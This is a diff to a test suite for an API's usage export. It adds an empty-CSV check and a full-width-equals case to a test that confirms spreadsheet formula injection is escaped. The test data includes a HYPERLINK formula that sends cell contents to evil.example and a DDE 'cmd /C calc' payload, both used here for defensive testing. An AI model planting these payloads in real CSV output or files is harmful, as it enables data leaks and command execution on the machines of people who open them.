@@ -163,6 +163,11 @@ describe.each([
     const followed = await fetch(`${gw.url}${link}`, { headers: { "x-api-key": key } });
     expect(followed.headers.get("content-type")).toMatch(/^text\/csv/);
     expect((await followed.text()).trim().split("\r\n")).toHaveLength(4);
+    // No rows: the header alone, ended once (a second line end reads as an empty row).
+    const empty = await fetch(`${gw.url}/api/v1/usage?format=csv&tool=no-such-tool`, {
+      headers: { "x-api-key": key },
+    });
+    expect(await empty.text()).toBe("id,at,kind,amount,balance,reason,request_id,tool,key_id\r\n");
   });
 
   it("escapes free text that a spreadsheet would run as a formula in the CSV, not in the JSON", async () => {
@@ -175,6 +180,7 @@ describe.each([
       // A line break after the formula: papaparse's own pattern missed these.
       '=HYPERLINK("https://evil.example/?"&A1,"click")\nx',
       "+1+cmd|' /C calc'!A0\r\nz",
+      "\uFF1D1+1", // a full-width equals sign
     ];
     for (const reason of reasons)
       expect(
@@ -184,14 +190,14 @@ describe.each([
           })
         ).status,
       ).toBe(201);
-    const res = await fetch(`${gw.url}/api/v1/usage?format=csv&kind=grant&limit=6`, {
+    const res = await fetch(`${gw.url}/api/v1/usage?format=csv&kind=grant&limit=7`, {
       headers: { "x-api-key": other.key },
     });
     const rows = Papa.parse<Record<string, string>>((await res.text()).trim(), { header: true });
     expect(rows.data.map((r) => [r.reason, r.amount])).toEqual(
       [...reasons].reverse().map((reason) => [`'${reason}`, "1"]),
     );
-    const json = await call(`${gw.url}/api/v1/usage?kind=grant&limit=6`, { key: other.key });
+    const json = await call(`${gw.url}/api/v1/usage?kind=grant&limit=7`, { key: other.key });
     expect(json.body.data.map((e: Entry & { reason: string }) => e.reason)).toEqual(
       [...reasons].reverse(),
     );
